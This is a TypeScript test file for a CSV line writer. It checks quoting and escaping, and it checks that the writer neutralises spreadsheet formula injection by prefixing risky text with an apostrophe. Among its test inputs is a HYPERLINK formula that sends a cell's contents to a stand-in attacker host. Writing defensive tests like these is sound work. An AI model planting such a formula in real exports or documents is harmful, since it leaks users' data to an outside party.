import { describe, expect, test } from 'vitest';
import { csvLine } from './csv.ts';

describe('a line of CSV', () => {
  test('quotes every text, doubles quotes, and leaves numbers and what is not there as they are', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', -1.5, true, null, ''])).toBe(
      '"a,b","say ""hi""","two\nlines",-1.5,true,,""\r\n',
    );
  });

  test.each([
    '=HYPERLINK("https://evil.test/?"&A1)',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '  =1+1',
    '\u200b=1',
    '＝1+1',
    '\tplain',
  ])('a spreadsheet takes %j for a text and not for a formula', (text) => {
    expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
  });

  test.each(['2 + 2 = 4', 'a@b', "it's", '1-2'])('%j is written as it is', (text) => {
    expect(csvLine([text])).toBe(`"${text}"\r\n`);
  });
});
